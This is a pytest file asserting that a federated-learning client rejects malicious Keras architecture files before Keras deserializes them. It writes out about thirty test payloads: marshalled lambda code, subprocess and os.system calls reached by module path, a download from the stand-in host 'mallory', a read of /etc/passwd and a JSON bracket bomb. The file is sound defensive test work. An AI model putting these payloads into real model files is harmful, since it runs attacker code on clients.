"""Attack: an organization publishes a model whose ``architecture.json`` runs its own code on every client.

Keras builds objects from what the file names. Each file below is one public way (or an obvious variant) of turning that
into code: marshalled lambdas, functions by module path, custom objects, files opened by preprocessing layers, and the same
hidden inside wrappers, initializers and connections.

Verdict: refused. The client stops with `UnsafeArchitecture` before Keras is even asked; the round goes on without it.
"""

from __future__ import annotations

import base64
import json
import marshal
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from client.data import Dataset
from client.keras_model import build
from client.policy import Policy
from client.worker import ClientWorker
from protocol.architecture import check_architecture
from protocol.errors import UnsafeArchitecture
from protocol.model import Model, TensorClass, TensorSpec
from protocol.task import Task
from tests.client.world import ALICE, CAROL, World


def layer(kind: str, module: str = "keras.layers", /, **config: Any) -> dict[str, Any]:
    return {"module": module, "class_name": kind, "config": config, "registered_name": None}


def sequential(*layers: Any) -> dict[str, Any]:
    config = {"name": "m", "layers": [layer("InputLayer", batch_shape=[None, 2], name="i"), *layers]}
    return {"module": "keras", "class_name": "Sequential", "config": config, "registered_name": None}


def functional(node: Any) -> dict[str, Any]:
    first = {**layer("InputLayer", batch_shape=[None, 2], name="i"), "name": "i", "inbound_nodes": []}
    second = {**layer("Dense", units=1, name="d"), "name": "d", "inbound_nodes": [node]}
    config = {"name": "m", "layers": [first, second], "input_layers": ["i", 0, 0], "output_layers": ["d", 0, 0]}
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": config,
        "registered_name": "Functional",
    }


def lambda_bytes(path: Path) -> dict[str, Any]:
    """A lambda as Keras marshals one; when called it touches ``path``."""
    code = compile(f"open({str(path)!r}, 'w').close()", "<mallory>", "exec")
    text = base64.b64encode(marshal.dumps(code)).decode()
    return {"class_name": "__lambda__", "config": {"code": text, "defaults": None, "closure": None, "value": text}}


def attacks(proof: Path) -> dict[str, Any]:
    function = {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "exec"}
    system = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
    popen = {"module": "subprocess", "class_name": "Popen", "config": {"args": ["touch", str(proof)]}}
    bad = layer("Lambda", function=lambda_bytes(proof), name="l")
    return {
        "lambda layer (CVE-2024-3660)": sequential(bad),
        "lambda layer in a wrapper": sequential(layer("TimeDistributed", layer=bad)),
        "lambda layer in a model in a model": sequential(sequential(sequential(bad))),
        "class by module path (CVE-2025-1550)": sequential(popen),
        "module path as the model itself": popen,
        "function as a layer": sequential(system),
        "function as an activation": sequential(layer("Dense", units=1, activation=function)),
        "function as an initializer": sequential(layer("Dense", units=1, kernel_initializer=system)),
        "class as an initializer": sequential(layer("Dense", units=1, kernel_initializer=popen)),
        "class as a regularizer": sequential(layer("Dense", units=1, activity_regularizer=popen)),
        "class as a constraint": sequential(layer("Dense", units=1, bias_constraint=popen)),
        "class as a dtype": sequential(layer("Dense", units=1, dtype=popen)),
        "object among an initializer's numbers": sequential(
            layer("Dense", units=1, kernel_initializer=layer("Constant", "keras.initializers", value=popen))
        ),
        "lambda where a number stands": sequential(layer("Dense", units=lambda_bytes(proof))),
        "keras utility that downloads (CVE-2025-8747)": sequential(
            layer("Dense", units=1, kernel_initializer=layer("get_file", "keras.utils", origin="http://mallory"))
        ),
        "keras internals by path": sequential(layer("Dense", "keras.src.layers.core.dense", units=1)),
        "switching safe mode off": sequential(layer("enable_unsafe_deserialization", "keras.config")),
        "custom object": sequential({**layer("Dense", units=1), "registered_name": "mallory>Dense"}),
        "saved model from disk": sequential(layer("TFSMLayer", filepath=str(proof.parent))),
        "vocabulary from disk": sequential(layer("StringLookup", vocabulary="/etc/passwd")),
        "torch module": sequential(layer("TorchModuleWrapper", module="AAAA")),
        "compile configuration": {**sequential(layer("Dense", units=1)), "compile_config": {"loss": function}},
        "build configuration": sequential({**layer("Dense", units=1), "build_config": {"input_shape": popen}}),
        "object in a connection": functional({"args": [popen], "kwargs": {}}),
        "lambda in a connection": functional({"args": [lambda_bytes(proof)], "kwargs": {"mask": None}}),
        "type specification in a connection": functional(
            {
                "args": [{"class_name": "__typespec__", "spec_name": "Popen", "module": "subprocess", "config": []}],
                "kwargs": {},
            }
        ),
        "legacy connection": functional([["i", 0, 0, {"function": lambda_bytes(proof)}]]),
        "legacy layer without module": sequential({"class_name": "Lambda", "config": {"function": ["AAAA"]}}),
        "bomb of brackets": None,
        "two keys, two readers": None,
    }


NAMES = sorted(attacks(Path("/tmp/x")))  # noqa: S108 - only the names are used


def architecture(name: str, proof: Path) -> bytes:
    if name == "bomb of brackets":
        return b'{"config":' * 50_000
    if name == "two keys, two readers":
        good = json.dumps(sequential(layer("Dense", units=1)))
        return good.replace('"class_name": "Dense"', '"class_name": "Lambda", "class_name": "Dense"').encode()
    return json.dumps(attacks(proof)[name]).encode()


def model(data: bytes) -> Model:
    spec = TensorSpec("00000.d/kernel", (2, 1), TensorClass.TRAINABLE, -20)
    return Model(data, 0, (), (spec,), {spec.name: np.zeros((2, 1), np.int32)})


@pytest.mark.parametrize("name", NAMES)
def test_the_file_is_refused_before_keras_is_asked(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import sys

    proof = tmp_path / "mallory-was-here"
    data = architecture(name, proof)
    with pytest.raises(UnsafeArchitecture):
        check_architecture(data)
    monkeypatch.setitem(sys.modules, "keras", None)  # importing it now would fail
    with pytest.raises(UnsafeArchitecture):
        build(model(data))
    assert not proof.exists()


def test_a_client_leaves_the_round_and_lives(tmp_path: Path) -> None:
    proof = tmp_path / "mallory-was-here"
    world = World(Task("trap", publication_seconds=30), model(architecture(NAMES[0], proof)))
    world.launch()
    data = Dataset(np.zeros((4, 2), np.float32), np.zeros(4, np.int64))
    policy = Policy(trusted_auditors=frozenset([CAROL]))
    alice = ClientWorker(world.chain(ALICE), world.store, world.federation, data, tmp_path / "home", policy)
    with pytest.raises(UnsafeArchitecture):
        alice.step()
    assert alice.step() is None
    assert world.submissions(ALICE) == []
    assert not proof.exists()


@pytest.mark.slow
@pytest.mark.parametrize(
    ("units", "error"), [(1, None), (-1, UnsafeArchitecture)], ids=["a good file builds", "a senseless one is named"]
)
def test_the_same_file_without_the_trick(units: int, error: type[Exception] | None, tmp_path: Path) -> None:
    data = json.dumps(sequential(layer("Dense", units=units, use_bias=False))).encode()
    check_architecture(data)
    run: Callable[[], Any] = lambda: build(model(data))  # noqa: E731
    if error is None:
        assert run().trainable == ("00000.d/kernel",)
    else:
        with pytest.raises(error):
            run()
